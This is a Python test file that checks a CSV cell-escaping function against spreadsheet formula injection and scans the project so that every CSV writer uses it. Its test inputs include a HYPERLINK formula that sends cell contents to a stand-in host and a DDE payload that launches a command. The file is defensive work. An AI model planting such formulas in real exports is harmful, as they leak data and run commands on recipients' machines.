"""A table that leaves the site holds texts, never formulas: the function, and every place that writes one."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from nuserus.foundation.files.cells import cell

SOURCE = Path(__file__).parents[3] / "src" / "nuserus"
WRITERS = ("writer", "DictWriter")


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://exemple.test?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
        "  =1", "\u00a0=1", "＝1", "\x00=1",
    ],
)  # fmt: skip
def test_no_spreadsheet_takes_it_for_a_formula(typed: str) -> None:
    written = io.StringIO()
    csv.writer(written, delimiter=";").writerow([cell(typed)])
    ((read,),) = csv.reader(io.StringIO(written.getvalue()), delimiter=";")
    assert read.startswith("'")
    assert "\x00" not in read


def test_what_is_no_formula_stays_as_it_is() -> None:
    assert [cell("Une tablette"), cell("a=b"), cell(-3), cell(2.5), cell("")] == [
        "Une tablette",
        "a=b",
        "-3",
        "2.5",
        "",
    ]


def unguarded(source: str) -> bool:
    """Whether a module writes rows of CSV without the function above."""
    tree = ast.parse(source)
    writes = any(isinstance(node, ast.Attribute) and node.attr in WRITERS for node in ast.walk(tree)) or any(
        isinstance(node, ast.ImportFrom) and node.module == "csv" and {name.name for name in node.names} & set(WRITERS)
        for node in ast.walk(tree)
    )
    guarded = any(
        isinstance(node, ast.ImportFrom) and node.module == "nuserus.foundation.files.cells" for node in ast.walk(tree)
    )
    return writes and not guarded


def test_every_table_goes_through_it() -> None:
    found = [str(file.relative_to(SOURCE)) for file in SOURCE.rglob("*.py") if unguarded(file.read_text("utf-8"))]
    assert found == []


def test_planted_table_is_found() -> None:
    assert unguarded("import csv\ncsv.writer(target).writerow([sheet.title])")
    assert unguarded("from csv import DictWriter")
    assert not unguarded("import csv\ncsv.DictReader(target)")
